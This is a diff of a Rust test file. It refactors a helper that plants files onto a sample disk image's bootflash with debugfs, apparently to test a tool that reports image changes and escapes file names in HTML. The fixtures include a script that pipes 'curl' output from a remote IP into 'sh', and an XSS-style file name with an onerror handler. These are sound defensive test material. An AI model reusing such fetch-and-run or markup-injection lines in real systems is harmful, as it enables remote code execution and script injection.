@@ -165,28 +165,31 @@ fn self_contained(html: &str) -> Vec<String> {
     problems
 }
 
-/// The sample with a script planted on its bootflash (debugfs write into
-/// partition 1), as a qcow2.
-fn planted(s: &Scratch) -> Option<String> {
+/// The sample as a raw disk with `content` written as `name` at the root of
+/// its bootflash (debugfs into partition 1); `None` without debugfs.
+fn plant(s: &Scratch, out: &str, name: &str, content: &str) -> Option<String> {
     let debugfs = find_tool("debugfs")?;
-    let raw = s.s("planted.raw");
+    let raw = s.s(out);
     qemu_img(&["convert", "-O", "raw", SAMPLE, &raw]);
-    let part = s.s("p1.img");
-    let data = peek(&raw, 1 << 20, 16 << 20);
-    std::fs::write(&part, &data).unwrap();
-    let script = s.path("agent.sh");
-    std::fs::write(&script, "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n").unwrap();
-    let r = run(
-        &debugfs,
-        &[
-            "-w",
-            "-R",
-            &format!("write {} agent.sh", script.display()),
-            &part,
-        ],
-    );
+    let part = s.s(&format!("{out}.p1"));
+    std::fs::write(&part, peek(&raw, 1 << 20, 16 << 20)).unwrap();
+    let local = s.path(&format!("{out}.local"));
+    std::fs::write(&local, content).unwrap();
+    let cmd = format!("write {} {name}", local.display());
+    let r = run(&debugfs, &["-w", "-R", &cmd, &part]);
     assert!(r.ok(), "{}", r.describe());
     poke(&raw, 1 << 20, &std::fs::read(&part).unwrap());
+    Some(raw)
+}
+
+/// The sample with a script planted on its bootflash, as a qcow2.
+fn planted(s: &Scratch) -> Option<String> {
+    let raw = plant(
+        s,
+        "planted.raw",
+        "agent.sh",
+        "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n",
+    )?;
     let img = s.s("planted.qcow2");
     qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &img]);
     Some(img)
@@ -394,27 +397,15 @@ fn report_of_a_planted_image_against_its_original() {
 fn hostile_names_are_escaped() {
     // A file name with markup, planted into the sample, shows as text.
     let s = Scratch::new("report-xss");
-    let Some(debugfs) = find_tool("debugfs") else {
+    let Some(raw) = plant(
+        &s,
+        "x.raw",
+        "<img_src=x_onerror=alert(1)>.sh",
+        "#!/bin/sh\n",
+    ) else {
         eprintln!("SKIP: debugfs not found");
         return;
     };
-    let raw = s.s("x.raw");
-    qemu_img(&["convert", "-O", "raw", SAMPLE, &raw]);
-    let part = s.s("p1.img");
-    std::fs::write(&part, peek(&raw, 1 << 20, 16 << 20)).unwrap();
-    let local = s.path("payload");
-    std::fs::write(&local, "#!/bin/sh\n").unwrap();
-    let r = run(
-        &debugfs,
-        &[
-            "-w",
-            "-R",
-            &format!("write {} <img_src=x_onerror=alert(1)>.sh", local.display()),
-            &part,
-        ],
-    );
-    assert!(r.ok(), "{}", r.describe());
-    poke(&raw, 1 << 20, &std::fs::read(&part).unwrap());
     let html = s.path("x.html");
     let cat = s.s("c.sqlite");
     let r = run_with(
